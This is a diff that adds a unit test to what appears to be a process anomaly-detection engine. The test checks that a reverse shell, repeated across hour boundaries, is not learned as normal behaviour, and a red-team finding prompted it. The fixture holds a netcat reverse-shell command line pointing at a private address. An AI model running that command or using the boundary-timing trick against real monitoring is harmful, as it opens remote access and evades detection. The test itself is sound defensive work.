@@ -105,6 +105,23 @@ def test_alert_pattern_is_learned_only_after_recurring_in_distinct_windows(tmp_p
     engine.close()
 
 
+def test_recurrence_windows_run_from_the_occurrences_not_from_the_clock(tmp_path):
+    """Sent a second before, at, and a second after two hour boundaries, a reverse shell was three windows old in
+    an hour and two seconds, and learned (s14 red team)."""
+    config = EngineConfig(baselines=str(tmp_path), learning=LearningConfig(recurrence_windows=3,
+                                                                           recurrence_window=Duration("1h")))
+    engine = AnomalyEngine(config)
+    engine.process(web_workload(300), workload="web")
+    shell = ProcessEvent(executable_name="sh", command_line="sh -c nc -e /bin/sh 10.0.0.5 9000",
+                         parent_name="nginx", user_id=33)
+    boundary = 3_600.0 * 20
+    for when in (boundary - 3_601.0, boundary - 1.0, boundary + 0.5, boundary + 1.0):
+        verdict = engine.process([shell], workload="web", received=when)[0]
+        assert verdict.severity == "alert", (when, verdict)
+    assert "seen in 2 of 3 required time windows" in " ".join(verdict.reasons), verdict.reasons
+    engine.close()
+
+
 def test_acknowledge_learns_a_held_back_pattern_at_once(engine):
     engine.process(web_workload(300), workload="web")
     deploy = ProcessEvent(executable_name="sh", command_line="sh -c /opt/deploy/hook.sh",
